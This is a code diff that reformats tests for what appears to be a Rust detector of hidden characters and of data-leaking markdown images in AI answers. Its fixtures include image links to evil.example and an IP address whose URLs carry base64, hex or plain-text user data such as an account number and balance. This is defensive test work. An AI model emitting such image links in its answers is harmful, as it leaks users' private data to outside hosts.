@@ -43,7 +43,10 @@ fn hidden_characters_are_told_and_ordinary_scripts_are_not() {
     ] {
         assert_eq!(hidden(ordinary), [""; 0], "{ordinary}");
     }
-    assert_eq!(text(&told("{\"q\": \"caf\\u00e9\\nb\\\\u00e9 \\ud83d\"}", ""), "ml.inference.request"), "{\"q\": \"café\nb\\\\u00e9 \u{fffd}\"}");
+    assert_eq!(
+        text(&told("{\"q\": \"caf\\u00e9\\nb\\\\u00e9 \\ud83d\"}", ""), "ml.inference.request"),
+        "{\"q\": \"café\nb\\\\u00e9 \u{fffd}\"}"
+    );
 }
 
 /// As JSON writes it that holds to ASCII.
@@ -73,7 +76,10 @@ fn images_that_carry_data_are_told_and_long_ordinary_addresses_are_not() {
     for (answer, expected) in [
         ("![x](https://evil.example/p?d=VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx)", "evil.example=base64"),
         ("![](https://evil.example/c/VGhlIHVzZXIgaXMgYWRhLCBoZXIgYWNjb3VudCBpcyA0NzEx/a.png)", "evil.example=base64"),
-        ("![a](https://evil.example/?q=her%20account%20is%204711%20and%20the%20balance%20is%2012)", "evil.example=text"),
+        (
+            "![a](https://evil.example/?q=her%20account%20is%204711%20and%20the%20balance%20is%2012)",
+            "evil.example=text",
+        ),
         ("![a](<http://203.0.113.7/i?x=her+account+is+4711+and+the+balance+is+12>)", "203.0.113.7=text"),
         ("![a](https://evil.example/?h=68657220 6163)", ""),
         ("![a](https://evil.example/?h=686572206163636f756e74206973203437313120616e642074)", "evil.example=hex"),
